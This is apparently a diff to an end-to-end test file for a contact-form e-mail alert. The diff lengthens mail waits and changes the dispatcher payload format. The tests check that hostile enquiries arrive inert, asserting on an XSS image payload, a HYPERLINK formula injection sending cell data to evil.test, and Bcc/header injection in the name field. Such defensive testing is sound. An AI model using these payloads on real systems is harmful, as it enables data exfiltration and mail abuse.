@@ -1,6 +1,6 @@
 import type { Page } from '@playwright/test';
 import { demoKeys, localNotifyEnquirySecret } from '@staycompliant/dev-backend/testing';
-import { backendUrl } from '@staycompliant/local-ports';
+import { backendUrl, sitePort } from '@staycompliant/local-ports';
 import { fillEnquiry, openContactDialog, readRows, toastWith } from '../contact/contact-helpers';
 import { expect, test } from '../support/fixtures';
 import { hostileMarkup, recordDialogs } from '../support/inert-text';
@@ -9,11 +9,17 @@ import { mailHolding, waitForOneMail } from './mail-helpers';
 
 // The enquiry alert end to end (docs/architecture.md, "The enquiry alert"): the production build, the local
 // backend running notify-enquiry on Deno, and maildev as the firm's mail server (e2e/serve-for-tests.mjs).
+// The alert leaves with the dispatcher's next tick (every 10 s, as Supabase Cron's job), so an e-mail is
+// awaited for one tick plus 10 s.
+const mailWithinMs = 20_000;
+// A page, a form and that wait: more than the default 30 s on a loaded machine.
+test.describe.configure({ timeout: 60_000 });
 
 const thanks = "Thank you! We'll get back to you soon.";
 const functionUrl = `${backendUrl()}/functions/v1/notify-enquiry`;
+const inboxUrl = `http://127.0.0.1:${sitePort()}/admin/enquiries`;
 
-test('a visitor sends an enquiry and within 10 s the firm has an e-mail with its fields and a link to it in the inbox', async ({
+test('a visitor sends an enquiry and by the next dispatch the firm has an e-mail with its fields and a link to it in the inbox', async ({
   page,
   request,
 }, testInfo) => {
@@ -31,7 +37,7 @@ test('a visitor sends an enquiry and within 10 s the firm has an e-mail with its
   await dialog.getByRole('button', { name: 'Submit' }).click();
   await expect(toastWith(page, thanks)).toBeVisible();
 
-  const { mail } = await waitForOneMail(email.toLowerCase(), 10_000);
+  const { mail } = await waitForOneMail(email.toLowerCase(), mailWithinMs);
   const secondsToMail = (Date.now() - submittedAt) / 1000;
   testInfo.annotations.push({ type: 'submit to mail', description: `${secondsToMail.toFixed(2)} s` });
   console.log(`[${testInfo.project.name}] submit to mail in the catcher: ${secondsToMail.toFixed(2)} s`);
@@ -41,7 +47,7 @@ test('a visitor sends an enquiry and within 10 s the firm has an e-mail with its
     'contact_submissions',
     `email=eq.${encodeURIComponent(email.toLowerCase())}`,
   );
-  const link = `http://127.0.0.1:4173/admin/enquiries?id=${row!.id}`;
+  const link = `${inboxUrl}?id=${row!.id}`;
   expect(mail.subject).toBe('New enquiry from Katherine Johnson (100+)');
   expect(mail.to.map((to) => to.address)).toEqual(['enquiries@staycompliant.test']);
   expect(mail.headers['message-id']).toBe(`<enquiry-${row!.id}@staycompliant.test>`);
@@ -73,7 +79,7 @@ async function expectInertHtml(page: Page, html: string, visibleTexts: string[])
   await expect(page.getByRole('link')).toHaveCount(1);
   await expect(page.getByRole('link', { name: 'Open it in the inbox' })).toHaveAttribute(
     'href',
-    /^http:\/\/127\.0\.0\.1:4173\/admin\/enquiries\?id=[0-9a-f-]{36}$/,
+    new RegExp(`^${inboxUrl.replace(/[.?]/g, '\\$&')}\\?id=[0-9a-f-]{36}$`),
   );
   expect(dialogs).toEqual([]);
 }
@@ -90,7 +96,7 @@ test('a hostile enquiry sent through the dialog is inert in the e-mail: markup, 
   await dialog.getByRole('button', { name: 'Submit' }).click();
   await expect(toastWith(page, thanks)).toBeVisible();
 
-  const { mail } = await waitForOneMail(email.toLowerCase(), 10_000);
+  const { mail } = await waitForOneMail(email.toLowerCase(), mailWithinMs);
   expect(mail.subject).toBe(`New enquiry from ${name} (less than 10)`);
   expect(mail.html).toContain('Mallory &lt;img src=x onerror=alert(1)&gt; &quot;O&#39;Neil&quot;');
   expect(mail.html).toContain('=HYPERLINK(&quot;http://evil.test/?leak=&quot;&amp;A1,&quot;Click me&quot;)');
@@ -118,7 +124,7 @@ test('a newline in the name, sent as anon through the REST API, reaches no mail 
   const [row] = await readRows<{ name: string }>(request, 'contact_submissions', `email=eq.${encodeURIComponent(email)}`);
   expect(row!.name).toBe(hostile.name);
 
-  const { mail } = await waitForOneMail(email, 10_000);
+  const { mail } = await waitForOneMail(email, mailWithinMs);
   expect(mail.subject).toBe(`New enquiry from Mallory ${hostileMarkup.image} Bcc: victim@example.com X-Injected: yes (less than 10)`);
   expect(Object.keys(mail.headers)).not.toContain('x-injected');
   expect(Object.keys(mail.headers)).not.toContain('bcc');
@@ -131,20 +137,23 @@ test('the function answers 401 to a call without the shared secret, or with a wr
   request,
 }, testInfo) => {
   const forged = uniqueEmail('forged', testInfo.project.name).toLowerCase();
+  // The dispatcher's body: one message of the queue with its enquiry.
   const payload = {
-    type: 'INSERT',
-    table: 'contact_submissions',
-    schema: 'public',
-    record: {
-      id: crypto.randomUUID(),
-      name: 'Forged',
-      email: forged,
-      company_size: '100+',
-      services_interested: ['Tax Filing'],
-      description: 'A forged call.',
-      created_at: new Date().toISOString(),
-    },
-    old_record: null,
+    messages: [
+      {
+        msg_id: 1,
+        read_ct: 1,
+        enquiry: {
+          id: crypto.randomUUID(),
+          name: 'Forged',
+          email: forged,
+          company_size: '100+',
+          services_interested: ['Tax Filing'],
+          description: 'A forged call.',
+          created_at: new Date().toISOString(),
+        },
+      },
+    ],
   };
   const { anonKey, serviceRoleKey } = demoKeys();
   const wrong: Record<string, string>[] = [
@@ -163,5 +172,5 @@ test('the function answers 401 to a call without the shared secret, or with a wr
   // The same call with the secret is taken: the 401s were about the secret, not the payload.
   const taken = await request.post(functionUrl, { headers: { 'x-webhook-secret': localNotifyEnquirySecret }, data: payload });
   expect(taken.status()).toBe(200);
-  await waitForOneMail(forged, 10_000);
+  await waitForOneMail(forged, mailWithinMs);
 });
